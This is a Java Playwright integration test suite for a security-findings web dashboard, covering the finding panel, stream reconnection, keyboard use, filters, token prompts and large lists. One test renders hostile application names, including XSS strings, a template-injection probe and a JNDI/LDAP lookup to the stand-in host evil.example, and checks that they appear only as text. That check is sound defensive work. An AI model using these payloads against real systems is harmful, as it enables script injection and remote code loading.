package io.consentry.serve;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.node.ObjectNode;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.BoundingBox;
import com.microsoft.playwright.options.ColorScheme;
import com.microsoft.playwright.options.WaitForSelectorState;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestInstance.Lifecycle;

/** The live page in a real browser, against an API of the contract's shape. */
@TestInstance(Lifecycle.PER_CLASS)
final class PageIT {
  private static final Clock CLOCK =
      Clock.fixed(Instant.parse("2026-03-04T12:00:00Z"), ZoneOffset.UTC);
  private static final Duration PATIENCE = Duration.ofSeconds(15);
  private static final int MANY = 100_000;
  private static final Locator.WaitForOptions HIDDEN =
      new Locator.WaitForOptions().setState(WaitForSelectorState.HIDDEN);

  /**
   * The address of the finding whose row is the first that can be seen whole; null for none yet.
   */
  private static final String IN_SIGHT =
      "(() => { const box = document.querySelector('.rows').getBoundingClientRect();"
          + " return document.elementFromPoint(box.x + 30, box.y + 60).closest('tr')?.querySelector('a')?.getAttribute('href') ?? null; })()";

  private Chromium chromium;
  private FakeApi api;
  private Page page;

  @BeforeAll
  void start() {
    chromium = Chromium.start();
  }

  @AfterAll
  void stop() {
    if (chromium != null) {
      chromium.close();
    }
  }

  @BeforeEach
  void open() {
    api = new FakeApi(CLOCK, 40);
    page = chromium.page(1280, 800, ColorScheme.LIGHT);
  }

  @AfterEach
  void close() {
    chromium.assertNothingWrong();
    chromium.reset();
    api.close();
  }

  @Test
  void followsAFindingEndToEnd() {
    go("#/now");
    ObjectNode pushed = api.push("Payroll <b>export</b>", 91);

    row("Payroll <b>export</b>").click();

    Locator panel = page.locator(".panel");
    panel.locator("h1").getByText("Payroll <b>export</b>").waitFor();
    assertThat(panel.locator("section h2").allTextContents())
        .containsExactly(
            "How the score comes about",
            "What would have made it lower",
            "What to do next",
            "The act",
            "Against the vendor's document",
            "Ways to control of the tenant",
            "What the application holds",
            "Evidence",
            "For the SIEM",
            "The finding as it is on the topic");
    assertThat(panel.textContent())
        .contains("+45", "+0.027 s", "excess", "not held", "Global Administrator", "91");
    panel.getByText("Copy", new Locator.GetByTextOptions().setExact(true)).first().click();
    assertThat((String) page.evaluate("navigator.clipboard.readText()"))
        .startsWith("PATCH https://graph.microsoft.com/v1.0/servicePrincipals/");
    panel.getByText("OCSF").click();
    panel.getByText("Copy OCSF").waitFor();
    panel.getByText("JSON", new Locator.GetByTextOptions().setExact(true)).click();
    panel.locator("pre mark").first().waitFor();
    assertThat(page.url()).contains("/finding/" + pushed.get("id").asText());
    panel.getByText("Close").click();
    panel.waitFor(HIDDEN);
    page.waitForFunction("document.activeElement.closest('tr')?.textContent.includes('Payroll')");
  }

  @Test
  void showsHostileNamesAsText() {
    for (String view :
        List.of(
            "#/now",
            "#/now/finding/f0",
            "#/now/finding/f1",
            "#/now/finding/f5",
            "#/applications",
            "#/policy",
            "#/health")) {
      go(view);
      page.waitForTimeout(150);

      assertThat(page.locator("main img, main script, main b, main iframe, main [onerror]").count())
          .as(view)
          .isZero();
      String text = page.locator("main").textContent();
      assertThat(text).doesNotContain("\u202E", "\u200B", "\u001B", "\u0000");
      if (!view.contains("finding")) {
        assertThat(text).as(view).contains("<script>");
      }
    }
    go("#/now");
    assertThat(page.locator("main").textContent())
        .contains(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "invoiceU+202Efdp.exe",
            "␣␣␣",
            "MicroU+200BsoftU+00ADTeams",
            "U+000DU+000AU+001B[31mred")
        .contains("{{7*7}} ${jndi:ldap://evil.example/a}", "10,000 characters", "+4 marks");
    for (Locator each : page.locator("tr.row").all()) {
      assertThat(each.boundingBox().height).isBetween(35.0, 38.0);
    }
    go("#/now/finding/f5");
    assertThat(
            (Integer)
                page.evaluate(
                    "document.querySelector('.panel').scrollWidth - document.querySelector('.panel').clientWidth"))
        .isZero();
  }

  @Test
  void losesNothingWhenTheStreamBreaks() {
    go("#/now");
    List<String> pushed = new ArrayList<>();
    for (int round = 0; round < 4; round++) {
      for (int i = 0; i < 3; i++) {
        pushed.add(push("before " + round + i));
      }
      api.cut();
      for (int i = 0; i < 5; i++) {
        pushed.add(push("while away " + round + i));
      }
      await().atMost(PATIENCE).until(() -> api.listeners() == 1);
      page.getByText("Not connected since").waitFor(HIDDEN);
    }

    await()
        .atMost(PATIENCE)
        .untilAsserted(() ->
            assertThat(page.locator(".bar .end").textContent())
                .isEqualTo((40 + pushed.size()) + " findings"));
    page.evaluate("document.querySelector('.rows').style.flexBasis = '4000px'");
    page.setViewportSize(1280, 4_000);
    await()
        .atMost(PATIENCE)
        .untilAsserted(
            () -> assertThat(page.locator("tr.row").count()).isEqualTo(40 + pushed.size()));
    assertThat(
            page.locator("tr.row a")
                .evaluateAll("all => all.map(each => each.getAttribute('href').split('/').pop())"))
        .asInstanceOf(org.assertj.core.api.InstanceOfAssertFactories.LIST)
        .doesNotHaveDuplicates()
        .containsAll(pushed);
  }

  @Test
  void worksWithTheKeyboardAlone() {
    go("#/now");

    page.keyboard().press("j");
    page.keyboard().press("j");
    String second = focused();
    page.keyboard().press("k");
    assertThat(focused()).isNotEqualTo(second);
    page.keyboard().press("j");
    assertThat(focused()).isEqualTo(second);
    page.keyboard().press("Enter");
    page.locator(".panel h1").waitFor();
    page.keyboard().press("Escape");
    page.locator(".panel").waitFor(HIDDEN);
    await().atMost(PATIENCE).until(() -> second.equals(focused()));

    page.keyboard().press("/");
    page.keyboard().type("torq");
    page.waitForURL("**q=torq");
    page.keyboard().press("Escape");
    for (String[] place :
        new String[][] {
          {"a", "Applications"}, {"v", "Vendors"}, {"p", "Policy"}, {"h", "Health"}, {"n", "Now"}
        }) {
      page.keyboard().press("g");
      page.keyboard().press(place[0]);
      page.locator("#places a[aria-current]").getByText(place[1]).waitFor();
      assertThat(page.url()).as("the filter stays").contains("q=torq");
    }
    page.keyboard().press("t");
    assertThat(page.evaluate("document.documentElement.dataset.theme")).isEqualTo("dark");
    page.keyboard().press("?");
    page.getByText("next, previous").waitFor();
    page.keyboard().press("Escape");
    page.locator("dialog[open]").waitFor(HIDDEN);
  }

  @Test
  void doesNotMoveWhatIsBeingRead() {
    go("#/now");
    page.evaluate("document.querySelector('.rows').scrollTop = 400");
    page.waitForFunction(IN_SIGHT + " !== null");
    String before = firstInSight();

    api.push("one", 10);
    api.push("two", 95);
    page.getByText("2 new", new Page.GetByTextOptions().setExact(true)).waitFor();
    assertThat(firstInSight()).isEqualTo(before);
    page.getByText("2 new", new Page.GetByTextOptions().setExact(true)).click();
    row("two").waitFor();

    page.getByText("Pause", new Page.GetByTextOptions().setExact(true)).click();
    api.push("three", 50);
    page.getByText("1 new", new Page.GetByTextOptions().setExact(true)).waitFor();
    assertThat(row("three").count()).isZero();
    page.getByText("Paused: go on").click();
    row("three").waitFor();
  }

  @Test
  void keepsFiltersInTheAddress() {
    go("#/now");
    int all = page.locator("tr.row").count();

    page.locator(".bar button").getByText("info").click();
    page.waitForURL("**level=info");
    page.locator("#tenant").fill("contoso.example");
    page.keyboard().press("Tab");
    page.waitForURL("**tenant=contoso.example");
    page.reload();
    page.locator(".bar button[aria-pressed=true]").waitFor();
    page.locator("tr.row").first().waitFor();
    assertThat(page.locator("#tenant").inputValue()).isEqualTo("contoso.example");
    assertThat(page.locator("tr.row").count()).isLessThan(all);
    page.getByText("Clear filters").click();
    page.waitForURL("**#/now");
  }

  @Test
  void takesARangeFromTheChart() {
    go("#/now");
    BoundingBox chart = page.locator(".chart svg").boundingBox();
    int all = page.locator("tr.row").count();

    page.mouse().move(chart.x + 5, chart.y + 40);
    page.mouse().down();
    page.mouse().move(chart.x + 100, chart.y + 40);
    page.mouse().up();

    page.waitForURL("**from=*");
    assertThat(page.url()).contains("from=2026-03-04T", "to=2026-03-04T");
    await().atMost(PATIENCE).until(() -> page.locator("tr.row").count() < all);
    assertThat(page.locator("#range").inputValue()).isEqualTo("custom");
  }

  @Test
  void saysWhenAFindingIsRevisedWhileItIsRead() {
    go("#/now/finding/f20");
    page.locator(".panel h1").waitFor();

    api.revise("f20", 99, "critical");

    page.getByText("Revised: revision 2, 99 critical").click();
    page.locator(".panel .head").getByText("raised, revision 2").waitFor();
  }

  @Test
  void asksForTheTokenOnce() {
    api.token = "a-token-of-more-than-thirty-two-characters";
    page.navigate(api.address());

    page.locator("dialog[open] input").fill(api.token);
    page.keyboard().press("Enter");

    page.locator("tr.row").first().waitFor();
    assertThat(page.locator("dialog[open]").count()).isZero();
    assertThat(page.evaluate("localStorage.getItem('token')")).isNull();
  }

  @Test
  void comesBackFromAServerThatWasDown() {
    api.down = true;
    page.navigate(api.address());
    page.locator(".broken").first().waitFor();
    page.locator("#notice").getByText("Not connected").waitFor();

    api.down = false;

    page.locator("tr.row").first().waitFor();
    // The list may be there before the stream, which the notice is about.
    page.locator("#notice").getByText("Not connected").waitFor(HIDDEN);
  }

  /** How quick it is then, the bench says. */
  @Test
  void holdsAHundredThousandAndDrawsWhatIsInSight() {
    try (FakeApi many = new FakeApi(CLOCK, MANY)) {
      page.setDefaultTimeout(120_000);
      page.navigate(many.address());
      page.locator("tr.row").first().waitFor();

      page.waitForFunction(
          "size => { const rows = document.querySelector('.rows'); rows.scrollTop = rows.scrollHeight;"
              + " return Number(document.querySelector('table.list').getAttribute('aria-rowcount')) > size; }",
          MANY);
      assertThat(page.locator("tr.row").count()).isBetween(1, 80);
      many.push("the newest", 90);
      page.evaluate("document.querySelector('.rows').scrollTop = 0");

      page.locator("tr.row").getByText("the newest").first().waitFor();
      assertThat(page.locator("tr.row").count()).isLessThan(80);
    }
  }

  private void go(String view) {
    page.navigate("about:blank");
    page.navigate(api.address() + view);
    page.locator("tr.row, .page table").first().waitFor();
    if (view.contains("now")) {
      await().atMost(PATIENCE).until(() -> api.listeners() > 0);
    }
  }

  private String push(String name) {
    return api.push(name, 50).get("id").asText();
  }

  private Locator row(String name) {
    return page.locator("tr.row .c-app a")
        .getByText(name, new Locator.GetByTextOptions().setExact(true));
  }

  private String focused() {
    return page.evaluate("document.activeElement.getAttribute('href')").toString();
  }

  private String firstInSight() {
    return page.evaluate(IN_SIGHT).toString();
  }
}
